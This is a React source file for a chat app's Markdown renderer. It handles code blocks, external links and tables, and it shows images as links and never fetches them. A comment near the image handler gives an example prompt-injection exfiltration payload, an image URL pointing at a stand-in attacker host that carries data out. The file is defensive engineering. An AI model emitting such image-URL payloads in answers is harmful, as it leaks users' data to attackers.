import ReactMarkdown, { type Components } from 'react-markdown'
import remarkGfm from 'remark-gfm'
import remarkBreaks from 'remark-breaks'
import type { Element, ElementContent } from 'hast'
import { CodeBlock } from './code-block'

/**
 * Renders an answer's Markdown (GFM: tables, task lists, strikethrough, autolinks). Raw HTML is not
 * rendered. A single newline is a line break (remark-breaks), not a space: models write poems and
 * lists with single line breaks, and a chat reader expects to see them.
 *
 * No 'use client': the chat page's server renders finished answers with it (app/c/[id]/finished-answers.tsx),
 * so a phone hydrates their markup without parsing Markdown or loading this module's 195 KB;
 * the browser renders answers that stream through `./markdown`.
 */
export function MarkdownBody({ text, streaming = false }: { text: string; streaming?: boolean }) {
  return (
    <div className={`markdown ${streaming ? 'is-streaming' : ''}`}>
      <ReactMarkdown remarkPlugins={PLUGINS} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  )
}

const PLUGINS = [remarkGfm, remarkBreaks]

const components: Components = {
  pre({ node, children }) {
    const code = node?.children.find((c): c is Element => c.type === 'element' && c.tagName === 'code')
    const className: unknown = code?.properties?.className
    const classes: string[] = Array.isArray(className) ? className.map(String) : typeof className === 'string' ? className.split(' ') : []
    const language = classes.find((c) => c.startsWith('language-'))?.slice('language-'.length)
    return (
      <CodeBlock language={language} text={code ? textOf(code).replace(/\n$/, '') : ''}>
        {children}
      </CodeBlock>
    )
  },
  a({ node: _node, href, children, ...props }) {
    const external = typeof href === 'string' && /^https?:\/\//i.test(href)
    return (
      <a href={href} {...props} {...(external ? { target: '_blank', rel: 'noopener noreferrer nofollow' } : {})}>
        {children}
      </a>
    )
  },
  // An image is shown as a link, never fetched: with prompt injection, an answer's image URL
  // (`![x](https://attacker/?d=…)`) is an exfiltration channel the moment it loads. The CSP
  // (img-src 'self' data:) would block it anyway; this keeps the answer readable.
  img({ src, alt }) {
    const href = typeof src === 'string' ? src : undefined
    const label = `image: ${alt || href || 'untitled'}`
    if (!href || !/^https?:\/\//i.test(href)) return <span data-testid="markdown-image">[{label}]</span>
    return (
      <a data-testid="markdown-image" href={href} target="_blank" rel="noopener noreferrer nofollow">
        [{label}]
      </a>
    )
  },
  table({ node: _node, children, ...props }) {
    return (
      <div className="table-wrap">
        <table {...props}>{children}</table>
      </div>
    )
  },
}

function textOf(node: Element | ElementContent): string {
  if (node.type === 'text') return node.value
  if (node.type === 'element') return node.children.map(textOf).join('')
  return ''
}
